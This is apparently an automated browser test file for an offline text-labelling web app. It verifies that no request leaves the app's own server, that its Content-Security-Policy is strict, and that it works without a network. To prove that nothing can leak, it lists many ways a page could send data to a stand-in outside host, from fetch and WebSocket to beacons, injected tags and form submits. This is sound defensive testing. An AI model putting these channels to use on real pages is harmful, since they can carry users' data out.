// @ts-check
// Nothing leaves: every request of a whole session is written down by a proxy that sees those of all workers too.
import assert from "node:assert/strict";
import { test } from "node:test";
import { launch } from "./support/browser.mjs";
import { keepLedger } from "./support/ledger.mjs";
import { acceptFile, allRead, answer, chooseFile, currentText, download, nameLabels, open, startLabelling, strings } from "./support/handpick.mjs";
import { DIST } from "./support/stage.mjs";
import { serve } from "../../scripts/static-server.mjs";

const SECRET = "zirconium-lighthouse";
const TEXTS = Array.from({ length: 24 }, (_, place) => `${SECRET} number ${place}: ${place % 2 ? "the wheel is broken" : "when do you open on Sunday"}, asks visitor ${place * 7}.`);
const FILE = { name: "letters.txt", mimeType: "text/plain", buffer: Buffer.from(TEXTS.join("\n")) };

/** What the page and its workers might send with, each tried against an address that is not the page's. */
const WAYS_OUT = /** @type {Record<string, string>} */ ({
  fetch: `await fetch("http://fetch.elsewhere.invalid/", { mode: "no-cors" })`,
  "fetch with a body": `await fetch("http://post.elsewhere.invalid/", { method: "POST", mode: "no-cors", body: "text" })`,
  XMLHttpRequest: `await new Promise((sent, refused) => { const x = new XMLHttpRequest(); x.onload = sent; x.onerror = refused; x.open("POST", "http://xhr.elsewhere.invalid/"); x.send("text"); })`,
  WebSocket: `await new Promise((sent, refused) => { const s = new WebSocket("ws://socket.elsewhere.invalid/"); s.onopen = sent; s.onerror = refused; })`,
  EventSource: `await new Promise((sent, refused) => { const s = new EventSource("http://events.elsewhere.invalid/"); s.onopen = sent; s.onerror = () => { s.close(); refused(new Error("refused")); }; })`,
  "import of a module": `await import("http://module-js.elsewhere.invalid/")`,
});

const QUIET_WAYS_OUT = `(() => {
  const to = (what) => \`http://\${what}.elsewhere.invalid/\`;
  try { navigator.sendBeacon(to("beacon"), "text"); } catch {}
  for (const [tag, attribute] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["video", "src"], ["object", "data"], ["embed", "src"]]) {
    document.body.append(Object.assign(document.createElement(tag), { [attribute]: to(tag) }));
  }
  for (const rel of ["stylesheet", "prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "manifest"]) {
    document.head.append(Object.assign(document.createElement("link"), { rel, href: to(rel), as: "fetch" }));
  }
  const form = Object.assign(document.createElement("form"), { action: to("form"), method: "post", target: "_blank" });
  document.body.append(form);
  form.submit();
  try { new Worker(to("worker")); } catch {}
})()`;

test("a whole session sends nothing, and requests nothing after it has loaded", { timeout: 600_000 }, async (t) => {
  const site = await serve({ folder: DIST });
  t.after(() => site.close());
  const ledger = await keepLedger(site.url);
  t.after(() => ledger.close());
  const browser = await launch({ proxy: ledger.proxy });
  t.after(() => browser.close());
  const page = await (await browser.newContext({ acceptDownloads: true })).newPage();

  await open(page, `${site.url}?device=cpu`);
  await chooseFile(page, FILE);
  await acceptFile(page);
  await nameLabels(page, ["Repair", "Question"]);
  await startLabelling(page);
  await allRead(page);
  // Keeping the page for use without a network is part of loading it.
  await page.getByText(strings.keeping.offlineShort).waitFor({ timeout: 60_000 });
  // So is the browser's own look for a newer service worker, some moments after one began to serve.
  for (let seen = -1; seen !== ledger.own.length; await page.waitForTimeout(3000)) seen = ledger.own.length;
  const loaded = ledger.own.length;

  for (let place = 0; place < 18; place += 1) await answer(page, (await currentText(page)).includes("broken") ? "Repair" : "Question");
  await page.keyboard.press("Backspace");
  await download(page, strings.menu.csv);
  await download(page, strings.menu.jsonl);
  await download(page, strings.menu.head);
  await download(page, strings.menu.save);
  await page.getByRole("link", { name: strings.header.answers }).click();
  await page.getByRole("heading", { name: strings.answers.heading }).waitFor();
  await page.getByRole("link", { name: strings.header.labels, exact: true }).click();
  await page.getByRole("heading", { name: strings.labels.heading }).waitFor();

  await t.test("no request goes anywhere but to the page's own server", () => assert.deepEqual(ledger.foreign, []));

  await t.test("all are plain reads of the page's own files", () => {
    for (const { method, url, body } of ledger.own) {
      assert.equal(method, "GET", url);
      assert.equal(body, 0, url);
      assert.ok(!decodeURIComponent(url).includes(SECRET), url);
      const { pathname, search } = new URL(url);
      assert.ok(search === "" || pathname === "/", `${url} carries a query`);
    }
  });

  await t.test("once it has loaded, nothing is requested at all", () => {
    // Chromium looks the tab's icon up again each time that the part after “#” changes; no page can keep it from doing so.
    const later = ledger.own.slice(loaded).filter(({ url }) => url !== `${site.url}app/icon.svg`);
    assert.deepEqual(later, []);
  });

  await t.test("the page carries its policy", async () => {
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    const directives = new Map((policy ?? "").split(";").map((part) => /** @type {[string, string]} */ (part.trim().split(/\s+(.*)/s).slice(0, 2))));
    assert.equal(directives.get("default-src"), "'none'");
    assert.equal(directives.get("connect-src"), "'self'");
    assert.equal(directives.get("script-src"), "'self' 'wasm-unsafe-eval'");
    assert.equal(directives.get("worker-src"), "'self'");
    for (const [name, value] of directives) assert.doesNotMatch(value ?? "", /unsafe-inline|unsafe-eval(?<!wasm-unsafe-eval)|https?:|\*|blob:/, name);
  });

  await t.test("and could not send anything if it tried, nor could its workers", async () => {
    const workers = page.workers();
    assert.ok(workers.length > 0, "the page has no worker");
    for (const [way, code] of Object.entries(WAYS_OUT)) {
      const attempt = `(async () => { try { ${code}; return "sent"; } catch (error) { return "refused"; } })()`;
      for (const [who, place] of /** @type {const} */ ([["page", page], ...workers.map((worker) => [worker.url(), worker])])) {
        // A worker's policy comes with its own file's headers, and a plain server sends none: workers close what can be closed,
        // and nobody can close `import()`.
        if (place !== page && way === "import of a module") continue;
        assert.equal(await /** @type {import("playwright-core").Page} */ (place).evaluate(attempt), "refused", `${way} from ${who}`);
      }
    }
    // Some ways out report nothing back: what counts is that nothing arrives.
    await page.evaluate(QUIET_WAYS_OUT);
    await page.waitForTimeout(1000);
    assert.deepEqual(ledger.foreign, []);
  });
});

test("it works without a network once it was loaded", { timeout: 600_000 }, async (t) => {
  const site = await serve({ folder: DIST });
  const browser = await launch();
  t.after(() => browser.close());
  const page = await (await browser.newContext()).newPage();
  await open(page, `${site.url}?device=cpu`);
  await chooseFile(page, FILE);
  await acceptFile(page);
  await nameLabels(page, ["Repair", "Question"]);
  await startLabelling(page);
  await allRead(page);
  await site.close();
  for (let place = 0; place < 6; place += 1) await answer(page, (await currentText(page)).includes("broken") ? "Repair" : "Question");
});
